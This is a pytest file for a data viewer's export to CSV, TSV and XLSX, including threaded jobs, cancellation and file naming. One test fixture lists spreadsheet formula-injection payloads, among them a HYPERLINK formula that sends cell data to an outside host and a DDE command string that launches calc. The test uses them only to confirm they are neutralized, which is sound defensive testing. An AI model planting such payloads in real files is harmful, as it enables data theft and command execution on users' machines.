"""Exporting a filtered view to CSV, TSV and XLSX (read back from the workbook's XML),
in a worker thread with its own connection, with progress and cancel."""

from __future__ import annotations

import csv
import re
import sqlite3
import threading
import weakref
import zipfile
from collections import Counter
from pathlib import Path
from xml.etree import ElementTree

import pytest
from PySide6.QtCore import Qt

from gui.viewer.exporting import (
    PROGRESS_EVERY,
    ExportCancelled,
    ExportError,
    ExportJob,
    export_file_name,
    write_csv,
    write_xlsx,
)
from gui.viewer.models import Column, ColumnFilter, SqlTableModel
from gui.viewer.sample import PAGES

DESC = Qt.SortOrder.DescendingOrder
WORD_COLUMNS = [Column("code", "Code", True), Column("form", "Form"),
                Column("categories", "Categories"), Column("frequency", "Frequency", True),
                Column("pages", "Pages", True)]
#: Frequencies computed from the sample text itself, not from the database.
EXPECTED = Counter(w.lower() for _, text in PAGES for w in text.split())


@pytest.fixture
def conn(sample_conn):
    """The sample run (tests/conftest.py)."""
    return sample_conn


@pytest.mark.parametrize(("name", "delimiter"), [("view.csv", ","), ("view.tsv", "\t")])
def test_export_writes_the_whole_filtered_view_not_only_fetched_rows(
        qtbot, conn, tmp_path: Path, name: str, delimiter: str) -> None:
    model = SqlTableModel(conn, "words", WORD_COLUMNS, "code", page_size=2)
    model.set_filter(3, ColumnFilter(minimum=2))
    model.sort(3, DESC)
    assert model.rowCount() == 2
    path = tmp_path / name
    written = write_csv(conn, model.view_query(), path, delimiter)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=delimiter))
    assert rows[0] == ["Code", "Form", "Categories", "Frequency", "Pages"]
    expected = {f: n for f, n in EXPECTED.items() if n >= 2}
    assert written == len(rows) - 1 == len(expected)
    assert {r[1]: int(r[3]) for r in rows[1:]} == expected
    assert [int(r[3]) for r in rows[1:]] == sorted(expected.values(), reverse=True)


SHEET_NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def read_xlsx(path: Path) -> dict[str, list[list]]:
    """Each sheet's rows, read from the workbook's XML parts (no spreadsheet library):
    inline strings as str, numbers as float, empty cells as None."""
    sheets: dict[str, list[list]] = {}
    with zipfile.ZipFile(path) as archive:
        workbook = ElementTree.fromstring(archive.read("xl/workbook.xml"))
        names = [s.get("name") for s in workbook.iterfind("m:sheets/m:sheet", SHEET_NS)]
        for number, name in enumerate(names, 1):
            root = ElementTree.fromstring(archive.read(f"xl/worksheets/sheet{number}.xml"))
            rows = []
            for row in root.iterfind("m:sheetData/m:row", SHEET_NS):
                cells: list = []
                for cell in row.iterfind("m:c", SHEET_NS):
                    letters = re.match(r"[A-Z]+", cell.get("r")).group()
                    column = 0
                    for letter in letters:
                        column = column * 26 + ord(letter) - 64
                    cells += [None] * (column - len(cells))
                    if cell.get("t") == "inlineStr":
                        value = "".join(t.text or "" for t in cell.iterfind(".//m:t", SHEET_NS))
                    else:
                        value = float(cell.find("m:v", SHEET_NS).text)
                    cells[column - 1] = value
                rows.append(cells)
            sheets[name] = rows
    return sheets


def test_xlsx_export_has_the_same_filtered_sorted_view_with_types(qtbot, conn,
                                                                  tmp_path: Path) -> None:
    model = SqlTableModel(conn, "words", WORD_COLUMNS, "code", page_size=2)
    model.set_filter(3, ColumnFilter(minimum=2))
    model.sort(3, DESC)
    csv_path, xlsx_path = tmp_path / "view.csv", tmp_path / "view.xlsx"
    query = model.view_query()
    assert write_xlsx(conn, query, xlsx_path, "words") == write_csv(conn, query, csv_path)
    sheets = read_xlsx(xlsx_path)
    assert list(sheets) == ["words"]
    rows = sheets["words"]
    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
        expected = list(csv.reader(handle))
    assert rows[0] == expected[0] == ["Code", "Form", "Categories", "Frequency", "Pages"]
    # Same rows in the same order (an empty cell is "" in CSV); numbers are numbers.
    assert [[int(v) if isinstance(v, float) else v or "" for v in r] for r in rows[1:]] == [
        [int(v) if v.isdigit() else v for v in r] for r in expected[1:]]
    assert all(isinstance(r[3], float) for r in rows[1:])
    assert {r[1]: r[3] for r in rows[1:]} == {f: n for f, n in EXPECTED.items() if n >= 2}


def test_xlsx_export_keeps_texts_literal_splits_long_views_and_reports_errors(
        qtbot, tmp_path: Path) -> None:
    conn = sqlite3.connect(tmp_path / "texts.sqlite")
    texts = ["=1+1", "https://a.es/", "007", "", None, "ñandú"]
    conn.execute("CREATE TABLE t (id INTEGER PRIMARY KEY, text TEXT, share REAL)")
    conn.executemany("INSERT INTO t (text, share) VALUES (?, ?)",
                     [(t, n / 4) for n, t in enumerate(texts)])
    model = SqlTableModel(conn, "t", [Column("id", "Id", True), Column("text", "Text"),
                                      Column("share", "Share", True)], "id")
    path = tmp_path / "texts.xlsx"
    assert write_xlsx(conn, model.view_query(), path, "texts", max_rows=4) == len(texts)
    sheets = read_xlsx(path)
    assert list(sheets) == ["texts", "texts (2)"]  # 3 data rows + header per sheet
    assert all(rows[0] == ["Id", "Text", "Share"] for rows in sheets.values())
    rows = [r for rows in sheets.values() for r in rows[1:]]
    # Formulas, addresses and leading zeros stay the texts they were; empties stay empty.
    assert [r[1] if len(r) > 1 else None for r in rows] == [
        "=1+1", "https://a.es/", "007", None, None, "ñandú"]
    assert [r[2] for r in rows] == [n / 4 for n in range(len(texts))]
    with zipfile.ZipFile(path) as archive:
        assert not any("<f>" in archive.read(n).decode() for n in archive.namelist()
                       if n.startswith("xl/worksheets/"))
    with pytest.raises(ExportError, match="nowhere"):
        write_xlsx(conn, model.view_query(), tmp_path / "nowhere" / "texts.xlsx")
    with pytest.raises(ExportError, match="nowhere"):
        write_csv(conn, model.view_query(), tmp_path / "nowhere" / "texts.csv")
    conn.close()


def big_table(tmp_path: Path, rows: int) -> sqlite3.Connection:
    """A real SQLite file with ``rows`` numbered words."""
    conn = sqlite3.connect(tmp_path / "big.sqlite", check_same_thread=False)
    conn.execute("CREATE TABLE t (id INTEGER PRIMARY KEY, form TEXT)")
    conn.executemany("INSERT INTO t (form) VALUES (?)", ((f"w{n}",) for n in range(rows)))
    conn.commit()
    return conn


@pytest.mark.parametrize("name", ["big.csv", "big.xlsx"])
def test_a_job_writes_in_a_worker_thread_with_its_own_connection(
        qtbot, tmp_path: Path, name: str) -> None:
    conn = big_table(tmp_path, 25_000)
    model = SqlTableModel(conn, "t", [Column("id", "Id", True), Column("form", "Form")], "id")
    model.set_filter(1, ColumnFilter("^w1", regex=True))  # REGEXP in the worker's connection
    expected = conn.execute("SELECT COUNT(*) FROM t WHERE form LIKE 'w1%'").fetchone()[0]
    assert expected > 2 * PROGRESS_EVERY
    job = ExportJob(conn, model.view_query(), tmp_path / name, "t")
    conn.close()  # the job reads through a connection of its own
    progress: list[int] = []
    job.progress.connect(progress.append)
    with qtbot.waitSignal(job.finished, timeout=30_000) as finished:
        job.start()
    assert finished.args == [expected] and job.result == expected
    assert progress and progress == sorted(progress) and progress[-1] <= expected
    assert (tmp_path / name).stat().st_size > 0
    if name.endswith(".csv"):
        rows = list(csv.reader((tmp_path / name).open(encoding="utf-8-sig")))
        assert len(rows) == expected + 1 and all(r[1].startswith("w1") for r in rows[1:])
    else:
        assert len(read_xlsx(tmp_path / name)["t"]) == expected + 1


@pytest.mark.parametrize("name", ["big.csv", "big.xlsx"])
def test_a_cancelled_job_leaves_no_file(qtbot, tmp_path: Path, name: str) -> None:
    conn = big_table(tmp_path, 5 * PROGRESS_EVERY)
    model = SqlTableModel(conn, "t", [Column("id", "Id", True), Column("form", "Form")], "id")
    job = ExportJob(conn, model.view_query(), tmp_path / name)
    job.progress.connect(lambda _: job.cancel())  # cancelled at the first report
    with qtbot.waitSignal(job.finished, timeout=30_000) as finished:
        job.start()
    assert isinstance(finished.args[0], ExportCancelled)
    assert not (tmp_path / name).exists()


def test_a_job_nobody_holds_any_more_is_freed_in_the_gui_thread(qtbot, tmp_path: Path) -> None:
    """The tab that started an export may close before it ends: the job is then held by its
    worker thread only. It must still be freed in the GUI thread — Qt crashes on a QObject
    destroyed in another thread."""
    conn = big_table(tmp_path, 5 * PROGRESS_EVERY)
    model = SqlTableModel(conn, "t", [Column("id", "Id", True), Column("form", "Form")], "id")
    job = ExportJob(conn, model.view_query(), tmp_path / "big.csv")
    conn.close()
    freed_in: list[threading.Thread] = []
    weakref.finalize(job, lambda: freed_in.append(threading.current_thread()))
    job.start()
    del job  # nobody else holds it: its thread and the run's registry do
    qtbot.waitUntil(lambda: bool(freed_in), timeout=30_000)
    assert freed_in == [threading.main_thread()]
    assert (tmp_path / "big.csv").stat().st_size > 0


HOSTILE_CELLS = ['=HYPERLINK("http://x.es/?"&A1,"clic")', "+cmd|' /C calc'!A0", "-2+3",
                 "@sum(A1)", "\tTAB", "\rCR", "ñandú", "a=b"]


@pytest.mark.parametrize(("name", "delimiter"), [("cells.csv", ","), ("cells.tsv", "\t")])
def test_csv_cells_that_start_like_formulas_are_neutralized(
        qtbot, tmp_path: Path, name: str, delimiter: str) -> None:
    """Issue 19, fault 5: OWASP's leading apostrophe, numbers untouched."""
    conn = sqlite3.connect(tmp_path / "cells.sqlite")
    conn.execute("CREATE TABLE t (id INTEGER PRIMARY KEY, text TEXT, n INTEGER)")
    conn.executemany("INSERT INTO t (text, n) VALUES (?, ?)",
                     [(t, -i) for i, t in enumerate(HOSTILE_CELLS)])
    model = SqlTableModel(conn, "t", [Column("id", "Id", True), Column("text", "Text"),
                                      Column("n", "N", True)], "id")
    path = tmp_path / name
    write_csv(conn, model.view_query(), path, delimiter)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=delimiter))[1:]
    assert [r[1] for r in rows] == ["'" + t for t in HOSTILE_CELLS[:6]] + HOSTILE_CELLS[6:]
    assert [r[2] for r in rows] == [str(-i) for i in range(len(HOSTILE_CELLS))]
    conn.close()


def test_a_csv_export_that_fails_keeps_the_earlier_file(qtbot, tmp_path: Path) -> None:
    """Issue 19, fault 14: written under a temporary name, renamed when complete."""
    conn = big_table(tmp_path, PROGRESS_EVERY + 1)
    model = SqlTableModel(conn, "t", [Column("id", "Id", True), Column("form", "Form")], "id")
    path = tmp_path / "big.csv"
    path.write_text("earlier export\n", encoding="utf-8")
    with pytest.raises(ExportCancelled):
        write_csv(conn, model.view_query(), path, progress=lambda rows: False)
    assert path.read_text(encoding="utf-8") == "earlier export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["big.csv", "big.sqlite"]
    conn.close()


def test_a_semicolon_csv_has_a_bom_decimal_commas_and_safe_cells(qtbot, tmp_path: Path) -> None:
    """Issue 22, point 5: as Spanish Excel reads it; formulas still neutralized."""
    conn = sqlite3.connect(tmp_path / "measures.sqlite")
    conn.execute("CREATE TABLE t (id INTEGER PRIMARY KEY, text TEXT, x REAL)")
    conn.executemany("INSERT INTO t (text, x) VALUES (?, ?)",
                     [("=1+1", 0.82), ("año", -1.5), ("-2", 3.0)])
    model = SqlTableModel(conn, "t", [Column("id", "Id", True), Column("text", "Text"),
                                      Column("x", "X", True)], "id")
    path = tmp_path / "measures.csv"
    assert write_csv(conn, model.view_query(), path, ";") == 3
    raw = path.read_bytes()
    assert raw.startswith("\ufeffId;Text;X".encode())
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines(), delimiter=";"))[1:]
    assert rows == [["1", "'=1+1", "0,82"], ["2", "año", "-1,5"], ["3", "'-2", "3,0"]]
    write_csv(conn, model.view_query(), path, ",")
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))[1:]
    assert [r[2] for r in rows] == ["0.82", "-1.5", "3.0"]
    conn.close()


def test_export_file_names_say_what_they_hold() -> None:
    run = Path("runs/prensa-local_2026-11-25_10-00-00")
    assert export_file_name(run, "Palabras") == "prensa-local_2026-11-25_palabras.csv"
    assert export_file_name(Path(f"{run}-2"), "Lemas", ".xlsx") == \
        "prensa-local_2026-11-25_lemas.xlsx"
    assert export_file_name(Path("Mi corpus"), "Páginas nuevas") == "mi-corpus_paginas-nuevas.csv"
